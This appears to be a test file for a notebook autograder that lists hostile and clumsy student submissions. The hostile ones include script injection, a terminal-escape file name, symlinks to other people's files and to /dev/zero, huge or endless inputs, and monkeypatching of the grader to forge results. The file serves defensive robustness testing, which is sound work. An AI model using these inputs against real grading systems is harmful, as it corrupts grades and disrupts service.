    wrong += [{"dict": {"raised": {"dict": {"type": {"tensor": {"dtype": "bool", "shape": [1], "data": "AQ=="}}}}}}]
    wrong += [{"dict": {"output": {"tensor": {"dtype": "bool", "shape": [1], "data": "/w=="}}}}]
    turn = iter(wrong * 100)
    worker.encode = lambda value: next(turn)
    shown = [{"output_type": kind, "name": "stdout", "text": [1], "data": {"text/plain": {}, "image/png": ["x"]}}
             for kind in ("stream", "error", "execute_result", "display_data", "x", None)]
    plain = type(sys.modules["grader.jailed.shell"].Shell).__call__
    sys.modules["grader.jailed.shell"].Outputs.finished = lambda self: [*shown, 1, None, [], "x"]
""",
        ),
        costs=BEHIND,
    ),
    Attack(
        "text_cell",
        "writes programs and endless brackets into a text cell",
        notebook=with_text("<script>alert(1)</script>\n\n" + "[" * 20_000 + "*a " * 5_000 + "> " * 3_000),
        most=8,
    ),
    Attack(
        "terminal_name",
        "has a notebook whose name is a command to the terminal",
        folder=called("x\x1b[2J\n8 of 8 \u202e.ipynb"),
        most=8,
        says="was graded as",
    ),
    # --- to trick who collects it ----------------------------------------------------------------------------------
    Attack(
        "path_tricks", "hands in links, names that lead upwards, and its own `torch.py`", folder=path_tricks, most=8
    ),
    Attack(
        "linked_notebook",
        "hands in a link to a file of the instructor's",
        folder=link_notebook,
        graded=False,
        says="is a link",
    ),
    Attack(
        "linked_folder",
        "hands in a link to another student's work",
        folder=link_folder,
        graded=False,
        says="is a link",
    ),
    Attack(
        "odd_files", "hands in a notebook of 100 GB, one that nobody may read, and a pipe", folder=odd_files, most=8
    ),
    Attack(
        "timestamp",
        "hands in a `timestamp.txt` that is no date",
        folder=beside(timestamp__txt="99999999999999999999-13-45 \x00"),
        most=8,
    ),
    Attack(
        "linked_timestamp",
        "hands in a `timestamp.txt` that never ends",
        folder=lambda folder: (folder / "timestamp.txt").symlink_to("/dev/zero"),
        most=8,
    ),
    Attack(
        "many_objects",
        "hands in 12 million empty objects",
        folder=instead(
            '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [' + "{}," * 12_000_000 + "{}]}"
        ),
        graded=False,
        says="none of the assignment's answer cells",
    ),
    Attack(
        "many_cells",
        "hands in 450 cells that each wait as long as they may",
        notebook=lambda notebook: notebook.cells.extend(
            nbformat.v4.new_code_cell("import time\ntime.sleep(600)") for _ in range(450)
        ),
        most=8,
    ),
)

Mishap = partial(Attack, least=8, most=8, clumsy=True)
CLUMSY = (
    Mishap("noisy", "warns, prints to standard error, shows a progress bar", notebook=be_noisy),
    Mishap("deleted_test", "deletes an autograde cell", notebook=delete_test, says="have been put back"),
    Mishap("edited_test", "edits an autograde cell", notebook=change_test, says="not yours to change"),
    Mishap("duplicated_cell", "copies cells, ids included", notebook=duplicate, says="more than once"),
    Mishap(
        "reordered",
        "moves cells",
        notebook=lambda notebook: notebook.cells.reverse(),
        says="had been moved",
    ),
    Mishap("scratch_cell", "needs a cell of its own", notebook=use_helper),
    Mishap(
        "renamed_notebook",
        "gives the notebook another name",
        folder=called("My solution (final).ipynb"),
        says="was graded as custom_layers.ipynb",
    ),
    Mishap(
        "wrong_assignment",
        "hands in another assignment's notebook",
        folder=of_another_assignment,
        least=0,
        graded=False,
        says="another assignment",
    ),
    Mishap(
        "extra_notebook",
        "hands in a second notebook",
        folder=beside(draft__ipynb="{}"),
        says="Also handed in, and not looked at: draft.ipynb",
    ),
    Mishap(
        "no_notebook",
        "hands in something else",
        folder=called("solution.pdf"),
        least=0,
        graded=False,
        says="no notebook at all",
    ),
    Mishap(
        "not_json",
        "hands in what is no notebook",
        folder=instead("%PDF-1.4"),
        least=0,
        graded=False,
        says="is not a notebook that can be read",
    ),
    Mishap(
        "not_text",
        "hands in bytes",
        folder=instead(bytes(range(256))),
        least=0,
        graded=False,
        says="is not a notebook that can be read",
    ),
    Mishap(
        "not_a_notebook",
        "hands in JSON that is no notebook",
        folder=instead("[1, 2]"),
        least=0,
        graded=False,
        says="JSON, but not a notebook",
    ),
    Mishap(
        "deeply_nested",
        "hands in 100,000 brackets",
        folder=instead("[" * 100_000),
        least=0,
        graded=False,
        says="is not a notebook that can be read",
    ),
    Mishap(
        "no_cells",
        "hands in a notebook without cells",
        folder=instead('{"nbformat": 4}'),
        least=0,
        graded=False,
        says="has no cells",
    ),
    Mishap("empty_file", "hands in an empty file", folder=instead(""), least=0, graded=False, says="it is empty"),
    Mishap(
        "truncated",
        "hands in half a notebook",
        folder=truncate,
        least=0,
        graded=False,
        says="is not a notebook that can be read",
    ),
    Mishap("nbformat_3", "hands in the format of an older Jupyter", folder=as_version_3),
    Mishap(
        "syntax_error",
        "has a syntax error",
        "class MyLinear(nn.Module:\n    pass",
        least=0,
        most=0,
        shows="SyntaxError",
    ),
    Mishap(
        "name_error", "uses a name that is not defined", "undefined_name", least=0, most=0, shows="undefined_name"
    ),
    Mishap(
        "import_error",
        "imports a package that is not there",
        "import no_such_module",
        least=0,
        most=0,
        shows="no_such_module",
    ),
    Mishap("stub_untouched", "leaves the stub", notebook=leave_stub, least=0, most=0, shows="not answered"),
    Mishap(
        "top_level_slow",
        "trains a network in a cell of its own",
        notebook=with_cell(
            "net = nn.Linear(100, 100)\nwhile True:\n    net(torch.randn(64, 100)).square().mean().backward()"
        ),
        shows="stopped after",
    ),
    Mishap(
        "pip_and_magics",
        "uses magics, a shell, `pip` and `input()`",
        notebook=lambda notebook: (
            [
                with_cell(source)(notebook)
                for source in (
                    "%matplotlib inline\n%timeit -n1 -r1 1\n!ls\n%load_ext autoreload\n_ = display(1)\n",
                    "%%bash\necho hello",
                    "%%time\nsum(range(1000))",
                    "input('how many? ')",
                    "!{__import__('sys').executable} -m pip --version",
                )
            ]
            and None
        ),
    ),
    Mishap(
        "unicode",
        "writes in other scripts",
        notebook=with_cell("größe = 'שלום мир 你好 🧱 e\\u0301'\nprint(größe)\n# ∀ε>0 ∃δ\n'🧱'"),
        shows="你好",
    ),
    Mishap("windows_newlines", "ends lines as on Windows", notebook=windows_newlines),
    Mishap(
        "output_heavy",
        "prints a great deal and draws pictures",
        notebook=with_cell(
            "%matplotlib inline\nimport matplotlib.pyplot as plt\nfor n in range(3):\n"
            "    plt.figure()\n    plt.plot(torch.randn(1000))\n    plt.show()\nprint('\\n'.join(map(str, range(20000))))"
        ),
        shows="image/png",
    ),
)


ATTACKS = (*HOSTILE, *CLUMSY)
